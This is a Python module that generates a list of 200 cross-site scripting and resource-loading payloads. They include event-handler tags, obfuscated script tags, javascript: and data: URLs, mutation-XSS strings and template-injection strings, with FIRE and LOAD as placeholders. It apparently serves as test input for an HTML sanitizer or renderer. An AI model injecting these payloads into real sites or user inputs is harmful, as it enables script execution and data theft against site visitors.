"""Two hundred ways in which text from outside has become a script, or has loaded something, in somebody's page."""

from __future__ import annotations

from collections.abc import Iterator

__all__ = ["COUNT", "payloads"]

COUNT = 200

# ruff: noqa: E501 - a payload reads best on one line
# FIRE is what a script would do, LOAD an address of another origin.
HANDLED = (
    '<img src=x onerror={q}FIRE{q}>', '<svg onload={q}FIRE{q}></svg>', '<body onload={q}FIRE{q}>',
    '<video><source onerror={q}FIRE{q}></video>', '<audio src=x onerror={q}FIRE{q}>', '<input autofocus onfocus={q}FIRE{q}>',
    '<details open ontoggle={q}FIRE{q}>', '<marquee onstart={q}FIRE{q}>', '<select autofocus onfocus={q}FIRE{q}></select>',
    '<textarea autofocus onfocus={q}FIRE{q}></textarea>', '<object data=x onerror={q}FIRE{q}></object>',
    '<svg><animate onbegin={q}FIRE{q} attributeName=x dur=1s></svg>', '<svg><set onbegin={q}FIRE{q} attributeName=x></svg>',
    '<style onload={q}FIRE{q}></style>', '<link rel=stylesheet href=x onerror={q}FIRE{q}>', '<iframe onload={q}FIRE{q}></iframe>',
    '<div onmouseover={q}FIRE{q}>over</div>', '<a onclick={q}FIRE{q} href=#>click</a>', '<button onclick={q}FIRE{q}>click</button>',
    '<div contenteditable autofocus onfocus={q}FIRE{q} tabindex=1>x</div>', '<img srcset=x onerror={q}FIRE{q}>',
    '<math><mtext><img src=x onerror={q}FIRE{q}></mtext></math>', '<svg><image href=x onerror={q}FIRE{q}/></svg>',
)  # fmt: skip
OUT_OF = ("{x}", '">{x}', "'>{x}", "</title>{x}", "</textarea>{x}", "</script>{x}", "--><!-->{x}")
SCRIPTS = (
    "<script>FIRE</script>", "<ScRiPt>FIRE</sCrIpT>", "<script src=LOAD></script>", "<script/x>FIRE</script>",
    "<<script>FIRE//<</script>", "<script>FIRE</script\n>", "<svg><script>FIRE</script></svg>",
    "<svg><script href=LOAD></script></svg>", "<math><script>FIRE</script></math>", "<noscript><p title='</noscript><script>FIRE</script>'>",
    "<template><script>FIRE</script></template>", "&lt;script&gt;FIRE&lt;/script&gt;", "\\u003cscript\\u003eFIRE\\u003c/script\\u003e",
    "<scr<script>ipt>FIRE</scr</script>ipt>", "<script type=module>FIRE</script>", "<script\x0c>FIRE</script>",
    '<math><annotation-xml encoding="text/html"><script>FIRE</script></annotation-xml></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=FIRE>",
    '<svg></p><style><a id="</style><img src=1 onerror=FIRE>">', "<table><td><style><img src=x onerror=FIRE></style></td></table>",
    '<a title="--><script>FIRE</script>">', "<listing>&lt;img src=x onerror=FIRE&gt;</listing>", "<xmp><script>FIRE</script></xmp>",
    "<plaintext><script>FIRE</script>", "<iframe srcdoc='<script>parent.FIRE</script>'></iframe>",
)  # fmt: skip
SCHEMES = (
    "javascript:FIRE", "JaVaScRiPt:FIRE", "java\tscript:FIRE", "java\nscript:FIRE", " javascript:FIRE", "\x01javascript:FIRE",
    "javascript&colon;FIRE", "&#106;avascript:FIRE", "javascript://x%0aFIRE", "vbscript:FIRE", "data:text/html,<script>FIRE</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:FIRE", "view-source:javascript:FIRE", "feed:javascript:FIRE",
    "https://x/\" onmouseover=\"FIRE", "https://x/' onclick='FIRE", "https://x/`onclick=FIRE", "//127.0.0.1/x", "http:javascript:FIRE",
)  # fmt: skip
LINKS = (
    "{x}",
    '<a href="{x}">x</a>',
    "[x]({x})",
    "<form action='{x}'><button>x</button></form>",
    "<iframe src='{x}'></iframe>",
)
LOADING = (
    "<img src=LOAD>", "![x](LOAD)", "![x][y]\n\n[y]: LOAD", "<img srcset='LOAD 1x'>", "<video src=LOAD autoplay></video>",
    "<video poster=LOAD></video>", "<audio src=LOAD autoplay></audio>", "<iframe src=LOAD></iframe>", "<embed src=LOAD>",
    "<object data=LOAD></object>", "<link rel=stylesheet href=LOAD>", "<link rel=preload as=image href=LOAD>",
    "<link rel=prefetch href=LOAD>", "<link rel=icon href=LOAD>", "<style>@import 'LOAD';</style>",
    "<style>body{background:url(LOAD)}</style>", "<div style='background:url(LOAD)'>x</div>", "<svg><image href=LOAD /></svg>",
    "<svg><use href='LOAD#x'/></svg>", "<svg><style>@import 'LOAD';</style></svg>", "<body background=LOAD>",
    "<table background=LOAD><td>x</td></table>", "<input type=image src=LOAD>", "<track src=LOAD>", "<base href=LOAD>",
    "<meta http-equiv=Link content='<LOAD>; rel=stylesheet'>", "<picture><source srcset=LOAD><img></picture>",
    "<font face='x' style='src:url(LOAD)'>", "<div hx-get=LOAD hx-trigger=load>x</div>", "<div hx-get=x hx-on::load='FIRE'>x</div>",
    "<div data-hx-get=LOAD data-hx-trigger=load>x</div>", "<div hx-trigger='load[FIRE]' hx-get=/>x</div>",
    "<math href=LOAD>x</math>", "<svg><feImage href=LOAD /></svg>", "{{ cycler.__init__ }}<img src=LOAD>", "{% include 'LOAD' %}<img src=LOAD>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    found = list(dict.fromkeys(_all()))
    assert len(found) >= COUNT, len(found)
    return found[:COUNT]


def _all() -> Iterator[str]:
    yield from SCRIPTS
    yield from LOADING
    for number, shape in enumerate(HANDLED):
        for turn in range(3):
            inside = shape.format(q=("", '"', "'")[turn])
            yield OUT_OF[(number + turn * 2) % len(OUT_OF)].format(x=inside)
    for number, scheme in enumerate(SCHEMES):
        for turn in range(4):
            yield LINKS[(number + turn) % len(LINKS)].format(x=scheme)
